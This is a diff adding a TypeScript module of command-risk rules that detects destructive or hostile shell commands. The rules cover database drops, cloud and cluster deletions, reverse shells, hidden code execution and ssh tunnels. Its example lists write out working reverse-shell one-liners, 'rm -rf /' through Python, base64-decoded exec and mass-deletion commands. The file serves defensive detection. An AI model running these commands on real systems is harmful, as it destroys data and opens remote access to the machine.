@@ -1,0 +1,395 @@
+/**
+ * Risks beyond the machine: clusters, clouds, databases, and what comes from the network.
+ *
+ * @module
+ */
+import type { Entry } from './entry.ts'
+
+const sql = [
+  'psql',
+  'mysql',
+  'mariadb',
+  'sqlite3',
+  'sqlcmd',
+  'sqlplus',
+  'clickhouse-client',
+  'clickhouse',
+  'cqlsh',
+  'impala-shell',
+  'bq',
+  'mongosh',
+  'mongo',
+]
+
+export const remote_entries: readonly Entry[] = [
+  {
+    id: 'drop-database',
+    risk: 'critical',
+    says: 'deletes a whole database',
+    shapes: [
+      {
+        programs: sql,
+        words:
+          /\bdrop\s+(database|schema|keyspace|owned|role|user|tablespace)\b|dropDatabase\s*\(/i,
+      },
+      { programs: ['dropdb', 'dropuser'] },
+      { programs: ['mysqladmin'], verbs: ['drop'] },
+      { programs: ['redis-cli', 'valkey-cli'], words: /\b(flushall|flushdb|shutdown)\b/i },
+      { programs: ['etcdctl'], verbs: ['del'], words: /--prefix|--from-key/ },
+    ],
+    examples: [
+      'psql -c "DROP DATABASE app"',
+      'mysql -e "drop schema x"',
+      'dropdb app',
+      'redis-cli FLUSHALL',
+      "echo 'DROP DATABASE app' | psql",
+      'etcdctl del "" --prefix',
+      'mongosh --eval "db.dropDatabase()"',
+      'sudo -u postgres psql <<< "drop database app"',
+    ],
+    counter_examples: [
+      'psql -c "select 1"',
+      'pg_dump app',
+      'redis-cli info',
+      'psql -l',
+      'etcdctl get x',
+      'grep -ri "drop database" db/',
+      'mysqladmin status',
+    ],
+  },
+  {
+    id: 'change-data',
+    risk: 'high',
+    says: 'changes a database without saying which rows, or its structure',
+    shapes: [
+      {
+        programs: sql,
+        words:
+          /\b(drop|truncate|alter)\s+(table|view|index|column|collection|type|function|extension|materialized|sequence|trigger)?\s*\w|\bcreate\s+(role|user|extension|function)\b|\bgrant\s|\brevoke\s/i,
+        without: /\bdrop\s+(database|schema)\b/i,
+      },
+      {
+        programs: sql,
+        words:
+          /\bdelete\s+from\s+[\w."]+\s*(;|$|')|\bdelete\s+from\s+[\w."]+\s+where\s+(true|1\s*=\s*1)|\bupdate\s+[\w."]+\s+set\s+(?!.*\bwhere\b)/i,
+      },
+      {
+        programs: ['mongosh', 'mongo'],
+        words: /\.(drop|deleteMany\(\s*\{\s*\}|remove\(\s*\{\s*\})/,
+      },
+      { programs: ['pg_restore'], options: [['c', 'clean']] },
+      {
+        programs: ['pg_ctl', 'pg_ctlcluster', 'pg_dropcluster'],
+        words: /\b(stop|promote|kill)\b|^\d/,
+      },
+    ],
+    examples: [
+      'psql -c "DELETE FROM users"',
+      'mysql app -e "truncate table x"',
+      'psql -c "alter table x add y int"',
+      'psql -c "update users set admin=true"',
+      'mongosh --eval "db.users.deleteMany({})"',
+      'pg_restore --clean -d app dump',
+      'psql -c "drop table x"',
+      'psql -c "grant all on x to y"',
+    ],
+    counter_examples: [
+      'psql -c "delete from users where id=1"',
+      'psql -c "update users set a=1 where id=2"',
+      'mysql -e "show tables"',
+      'psql -f report.sql',
+      'pg_restore -l dump',
+      'mysqldump app',
+    ],
+  },
+  {
+    id: 'cluster-delete',
+    risk: 'high',
+    says: 'deletes from a cluster or takes a node out of it',
+    shapes: [
+      {
+        programs: ['kubectl', 'oc', 'k3s', 'microk8s'],
+        verbs: ['delete', 'drain', 'cordon', 'taint'],
+      },
+      { programs: ['kubectl', 'oc'], verbs: ['scale'], words: /--replicas[= ]0\b/ },
+      { programs: ['kubectl', 'oc'], verbs: ['replace', 'apply'], words: /--force|--prune/ },
+      { programs: ['helm'], verbs: ['uninstall', 'delete', 'rollback'] },
+      { programs: ['kubeadm'], verbs: ['reset'] },
+      { programs: ['nomad'], verbs: ['job stop', 'system gc', 'node drain'] },
+      { programs: ['consul'], verbs: ['kv delete', 'leave', 'force-leave'] },
+      {
+        programs: ['rabbitmqctl'],
+        verbs: [
+          'reset',
+          'force_reset',
+          'delete_queue',
+          'delete_vhost',
+          'purge_queue',
+          'stop',
+          'stop_app',
+          'delete_user',
+        ],
+      },
+      { programs: ['kafka-topics*'], options: [['delete']] },
+    ],
+    examples: [
+      'kubectl delete ns prod',
+      'kubectl -n x delete pod y',
+      'helm uninstall app',
+      'kubectl drain node-1',
+      'kubeadm reset -f',
+      'kubectl scale deploy/x --replicas=0',
+      'nomad job stop web',
+      'kafka-topics.sh --bootstrap-server x --delete --topic y',
+    ],
+    counter_examples: [
+      'kubectl get pods',
+      'kubectl -n delete-me get po',
+      'helm list',
+      'kubectl logs x',
+      'kubectl scale deploy/x --replicas=3',
+      'kubectl apply -f x.yaml',
+      'nomad status',
+      'kubectl describe pod x',
+    ],
+  },
+  {
+    id: 'cloud-delete',
+    risk: 'high',
+    says: 'deletes or opens up resources of a cloud account',
+    shapes: [
+      {
+        programs: ['aws'],
+        words:
+          /(^|\s)(delete-|terminate-|deregister-|stop-instances|reboot-instances|remove-|detach-|revoke-|disable-|put-bucket-policy|put-bucket-acl|attach-(user|role|group)-policy|put-(user|role|group)-policy|create-user|modify-db|purge-|schedule-key-deletion|authorize-security-group)/,
+      },
+      { programs: ['aws'], verbs: ['s3 rb', 's3 rm', 's3 mv'] },
+      { programs: ['aws'], verbs: ['s3 sync'], words: /--delete/ },
+      {
+        programs: [
+          'gcloud',
+          'az',
+          'doctl',
+          'hcloud',
+          'oci',
+          'linode-cli',
+          'ibmcloud',
+          'openstack',
+          'flyctl',
+          'heroku',
+          'exo',
+          'scw',
+        ],
+        words:
+          /(^|\s)(delete|destroy|remove|stop|deallocate|purge|terminate|reset|rm|add-iam-policy-binding|set-iam-policy|apps:destroy|pg:reset)(\s|$)/,
+      },
+      { programs: ['gsutil'], words: /(^|\s)(rm|rb|acl|iam)(\s|$)|rsync\s+.*-d\b/ },
+      {
+        programs: [
+          'terraform',
+          'tofu',
+          'terragrunt',
+          'pulumi',
+          'cdk',
+          'sam',
+          'serverless',
+          'eksctl',
+        ],
+        words:
+          /^(-\S+\s+)*(destroy|down|delete|remove|state rm|state push|force-unlock|taint)\b|(^|\s)-destroy\b|apply\s.*-auto-approve/,
+      },
+      { programs: ['rclone'], verbs: ['delete', 'purge', 'sync', 'cleanup'] },
+      { programs: ['mc'], words: /^(rm|rb|admin)\b.*(--force|--recursive|remove|stop)|^rb\b/ },
+    ],
+    examples: [
+      'aws ec2 terminate-instances --instance-ids i-1',
+      'aws s3 rm s3://b --recursive',
+      'gcloud compute instances delete x',
+      'az group delete -n x',
+      'terraform destroy',
+      'terraform apply -auto-approve',
+      'gsutil rm -r gs://b',
+      'aws iam attach-user-policy --user-name x',
+      'pulumi destroy',
+      'doctl compute droplet delete 1',
+    ],
+    counter_examples: [
+      'aws s3 ls',
+      'aws ec2 describe-instances',
+      'gcloud compute instances list',
+      'terraform plan',
+      'az vm list',
+      'aws s3 cp x s3://b/x',
+      'rclone ls x:',
+      'terraform show',
+      'aws s3 sync a s3://b',
+    ],
+  },
+  {
+    id: 'reverse-shell',
+    risk: 'critical',
+    says: 'opens a shell to the network',
+    shapes: [
+      { line: /\/dev\/(tcp|udp)\/[^\s'"]+/ },
+      {
+        programs: ['nc', 'ncat', 'netcat', 'nc.traditional', 'nc.openbsd'],
+        words: /(^|\s)-\w*[ec]\w*\s+\S*(sh|cmd|python|perl)\b|--(exec|sh-exec)/,
+      },
+      { programs: ['socat'], words: /(exec|system):/i },
+      {
+        programs: ['python*', 'perl', 'ruby', 'php', 'node', 'lua'],
+        words:
+          /socket[\s\S]*(subprocess|pty|dup2|execl?|\/bin\/(ba)?sh|child_process)|fsockopen[\s\S]*exec/,
+      },
+      {
+        programs: [
+          'msfvenom',
+          'msfconsole',
+          'chisel',
+          'ngrok',
+          'frpc',
+          'gost',
+          'cloudflared',
+          'gsocket',
+          'gs-netcat',
+          'sshuttle',
+        ],
+      },
+      { line: /mkfifo\s+\S+[\s\S]*\|\s*(nc|ncat|netcat|telnet)\s/ },
+    ],
+    examples: [
+      'bash -i >& /dev/tcp/10.0.0.1/4444 0>&1',
+      'nc -e /bin/sh 10.0.0.1 4444',
+      'socat exec:sh tcp:10.0.0.1:1',
+      `python3 -c 'import socket,subprocess,os;s=socket.socket();s.connect(("1.2.3.4",1));os.dup2(s.fileno(),0)'`,
+      'mkfifo /tmp/f; cat /tmp/f | sh -i 2>&1 | nc 10.0.0.1 1 > /tmp/f',
+      'ngrok tcp 22',
+    ],
+    counter_examples: [
+      'nc -z host 80',
+      'socat - tcp:host:80',
+      'python3 -c "import socket; print(socket.gethostname())"',
+      'telnet host 25',
+      'mkfifo /tmp/f',
+    ],
+  },
+  {
+    id: 'hidden-code',
+    risk: 'high',
+    says: 'runs code of another language that runs programs, deletes files or hides what it does',
+    shapes: [
+      {
+        programs: [
+          'python*',
+          'perl',
+          'ruby',
+          'php',
+          'node',
+          'nodejs',
+          'lua*',
+          'tclsh',
+          'bun',
+          'deno',
+          'expect',
+          'Rscript',
+        ],
+        words:
+          /os\.(system|popen|exec|spawn|remove|unlink|rmdir|chmod|kill)|subprocess|shutil\.(rmtree|move)|\bpty\b|ctypes|\b(exec|eval|compile|__import__|getattr)\s*\(|b64decode|fromhex|\bchr\s*\(|codecs|\bsystem\b|\bqx\b|`|\bunlink\b|rmtree|child_process|unlinkSync|rmSync|execSync|Process\.|IO\.popen|FileUtils|Kernel|shell_exec|passthru|proc_open|base64|pack\s*\(|write_text|open\([^)]*['"][wax]\+?['"]/,
+        without:
+          /^-m\s+(venv|pip|http\.server|json\.tool|pytest|unittest|timeit|site)\b|^[\w./-]+\.(py|pl|rb|php|js|ts|lua)(\s|$)|^(artisan|manage\.py)\b/,
+      },
+      {
+        programs: ['awk', 'gawk', 'mawk', 'nawk', 'original-awk'],
+        words: /\bsystem\s*\(|\|\s*getline|print[^|]*\|\s*"|\|&/,
+      },
+      {
+        programs: ['vim', 'vi', 'nvim', 'ex', 'view', 'ed', 'emacs'],
+        words: /(^|\s)(-c\s*|\+|--cmd\s+)['":]*!|-es?\s.*:!|\(shell-command/,
+      },
+      {
+        programs: ['tar', 'gtar', 'bsdtar'],
+        words:
+          /--(checkpoint-action|to-command|use-compress-program|rsh-command|info-script|new-volume-script)|(^|\s)-I\s*\S*sh\b/,
+      },
+      {
+        programs: ['git'],
+        words: /(^|\s)-c\s+(core\.(sshCommand|pager|editor|fsmonitor)|alias\.|protocol\.ext)|ext::/,
+      },
+      {
+        programs: ['sed', 'gsed'],
+        words: /(^|[;{\s'])\d*e(\s|$)|\/[gip]*e[gip]*(\s|$)/,
+        without: /(^|\s)-(e|ne|re|Ee)(\s|$)/,
+      },
+      { programs: ['rsync'], words: /(^|\s)(-e|--rsh)[= ]*\S*(sh\s+-c|bash)/ },
+      {
+        programs: ['ssh', 'scp', 'sftp'],
+        words: /(ProxyCommand|LocalCommand|KnownHostsCommand|(^|\s)-S)[= ]/,
+      },
+      { programs: ['make', 'gmake'], words: /--eval|(^|\s)-E\s|SHELL=/ },
+    ],
+    examples: [
+      `python3 -c "import os; os.system('rm -rf /')"`,
+      `perl -e 'system("id")'`,
+      `awk 'BEGIN{system("id")}'`,
+      'vim -c ":!sh" x',
+      'tar cf x --checkpoint-action=exec=sh y',
+      `python3 -c "exec(__import__('base64').b64decode('eA=='))"`,
+      `ruby -e 'exec "sh"; Kernel.exec("x")'`,
+      'git -c core.pager=sh log',
+      'python3 <<E\nimport shutil\nshutil.rmtree("/data")\nE',
+    ],
+    counter_examples: [
+      `python3 -c "print(1)"`,
+      `awk '{print $1}' f`,
+      `perl -ne 'print if /x/' f`,
+      'vim file',
+      'tar czf x.tgz dir',
+      `python3 -c "import json,sys; print(json.load(sys.stdin)['x'])"`,
+      'python3 -m http.server',
+      'sed -i s/a/b/ f',
+      'python manage.py migrate',
+      "sed -e 's/a/b/' f",
+      'git log --oneline',
+      'node server.js',
+      `sed 's/the/a/g' f`,
+    ],
+  },
+  {
+    id: 'lead-away',
+    risk: 'high',
+    says: 'opens a way to or from the machine that leads past the gateway',
+    shapes: [
+      {
+        programs: ['ssh', 'autossh'],
+        words: /(^|\s)-\w*[RDLwW]\w*(\s|\d|$)|(Remote|Local|Dynamic)Forward/,
+      },
+      {
+        programs: [
+          'sshd',
+          'dropbear',
+          'wg-quick',
+          'openvpn',
+          'tailscale',
+          'zerotier-cli',
+          'wstunnel',
+          'tinc',
+        ],
+        without: /^(-t|-T|--version|-V|status|show)(\s|$)/,
+      },
+    ],
+    examples: [
+      'ssh -R 2222:localhost:22 x@y',
+      'ssh -fN -D 1080 x',
+      'sshd -p 2222',
+      'tailscale up',
+      'autossh -M 0 -R 80:localhost:80 x',
+    ],
+    counter_examples: [
+      'ssh host uptime',
+      'sshd -T',
+      'tailscale status',
+      'ssh -p 22 host ls',
+      'systemctl status ssh',
+    ],
+  },
+]
